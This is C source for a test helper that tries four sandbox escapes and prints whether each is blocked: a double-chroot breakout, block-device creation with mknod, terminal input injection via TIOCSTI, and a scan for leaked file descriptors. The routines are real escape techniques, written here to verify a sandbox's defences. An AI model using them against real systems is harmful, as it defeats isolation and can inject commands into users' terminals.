/* Escape attempts from inside a defkit sandbox (%post, %test, `defkit exec`), built static by
 * tests/engine/security/test_sandbox_escape.py. Each mode prints one line "ATTACK <name> <result>"
 * where result is "blocked" or "ESCAPED"; it never damages what it reaches (it only opens,
 * stats, or creates a file in the canary directory, which the test then finds).
 *
 *   attack chroot CANARY      the double-chroot escape, then create CANARY/dir/escaped
 *   attack mknod [DIR]        block device 8:0 with mknod and with mknodat (in DIR, /tmp)
 *   attack tiocsti            push a character into the controlling tty and fds 0-2
 *   attack fds                any descriptor above 2 left open for us
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <termios.h>
#include <unistd.h>

static int report(const char *name, int escaped, const char *detail) {
    printf("ATTACK %s %s %s\n", name, escaped ? "ESCAPED" : "blocked", detail);
    return escaped ? 1 : 0;
}

static int double_chroot(const char *canary) {
    char target[4096];
    /* chroot into a directory below the cwd ("/"), then climb out of it: what a plain chroot
     * allows when the host root is still in the mount namespace. /proc exists even in %test. */
    if (chroot("/proc") != 0)
        return report("chroot", 0, strerror(errno));
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            break;
    chroot(".");
    snprintf(target, sizeof target, "%s/dir/escaped", canary);
    int fd = open(target, O_WRONLY | O_CREAT | O_EXCL, 0644);
    if (fd >= 0) {
        close(fd);
        return report("chroot", 1, target);
    }
    snprintf(target, sizeof target, "%s/secret.txt", canary);
    if (access(target, F_OK) == 0)
        return report("chroot", 1, "canary visible");
    return report("chroot", 0, "host root not reachable");
}

static int block_mknod(const char *dir) {
    char node[4096];
    int escaped = 0;
    snprintf(node, sizeof node, "%s/.blk", dir);
    unlink(node);
#ifdef SYS_mknod
    if (syscall(SYS_mknod, node, S_IFBLK | 0600, makedev(8, 0)) == 0)
        escaped = 1;
    else
        report("mknod", 0, strerror(errno));
    unlink(node);
#endif
    if (syscall(SYS_mknodat, AT_FDCWD, node, S_IFBLK | 0600, makedev(8, 0)) == 0)
        escaped = 1;
    else
        report("mknodat", 0, strerror(errno));
    unlink(node);
    return escaped ? report("mknod", 1, "block device created") : 0;
}

static int tiocsti(void) {
    char c = '#';
    int escaped = 0, tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    int fds[4] = {0, 1, 2, tty};
    for (int i = 0; i < 4; i++) {
        if (fds[i] < 0 || !isatty(fds[i]))
            continue;
        if (ioctl(fds[i], TIOCSTI, &c) == 0)
            escaped = 1;
        else
            printf("ATTACK tiocsti-fd%d blocked %s\n", i, strerror(errno));
    }
    return report("tiocsti", escaped, tty < 0 ? "no controlling tty" : "tty opened");
}

static int leaked_fds(void) {
    char detail[64] = "none";
    int escaped = 0;
    for (int fd = 3; fd < 4096; fd++)
        if (fcntl(fd, F_GETFD) != -1) {
            snprintf(detail, sizeof detail, "fd %d open", fd);
            escaped = 1;
            break;
        }
    return report("fds", escaped, detail);
}

int main(int argc, char **argv) {
    if (argc >= 3 && strcmp(argv[1], "chroot") == 0)
        return double_chroot(argv[2]);
    if (argc >= 2 && strcmp(argv[1], "mknod") == 0)
        return block_mknod(argc >= 3 ? argv[2] : "/tmp");
    if (argc >= 2 && strcmp(argv[1], "tiocsti") == 0)
        return tiocsti();
    if (argc >= 2 && strcmp(argv[1], "fds") == 0)
        return leaked_fds();
    fprintf(stderr, "usage: attack chroot CANARY | mknod [DIR] | tiocsti | fds\n");
    return 2;
}
